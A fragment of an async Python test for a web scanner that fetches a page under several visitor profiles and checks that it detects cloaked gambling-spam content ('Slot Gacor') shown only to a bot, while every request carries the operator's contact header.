                    family=Family.CONTENT,
                    until=anyio.current_time() + 30,
                )
                look, beside = await visits.observe(opened)
    assert isinstance(look, Ok)
    assert isinstance(look.fact, Visits)
    found = {visit.profile: visit for visit in look.fact.visits}
    assert title(found["bot"]) == "Slot Gacor"
    assert {title(found[name]) for name in ORDER[:-1]} == {"Kabupaten Contoh"}
    assert isinstance(beside, Ok)
    assert isinstance(beside.fact, Linked)
    assert len(beside.fact.pages) == 1
    assert len(connections) == 1
    # Six visits, the sitemap and robots.txt, two to the article, and a browser's, for the robot
    # got another.
    assert len(heard) == 11
    # Whoever looks like a browser still says who is asking.
    assert {fields["from"] for fields in heard} == {OPERATOR.contact}
    assert not any("cyberscan" in fields["user-agent"] for fields in heard)
    assert sum("referer" in fields for fields in heard) == 3
